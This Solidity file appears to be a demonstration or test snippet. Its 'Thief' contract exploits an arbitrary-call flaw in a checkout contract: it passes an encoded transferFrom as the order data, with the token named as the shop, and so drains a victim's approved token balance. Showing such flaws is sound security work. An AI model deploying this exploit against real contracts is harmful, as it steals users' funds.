// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface ICheckout {
    function pay(address shop, uint256 amount, bytes calldata order) external;
}

contract Coin is ERC20("Coin", "COIN") {
    function mint(uint256 amount) external {
        _mint(msg.sender, amount);
    }
}

// #region contract
/// "Orders" a transfer of the victim's tokens, from a shop that is the token itself.
contract Thief {
    function steal(ICheckout checkout, IERC20 coin, address victim) external {
        bytes memory order = abi.encodeCall(IERC20.transferFrom, (victim, msg.sender, coin.balanceOf(victim)));
        checkout.pay(address(coin), 0, order);
    }
}
// #endregion contract
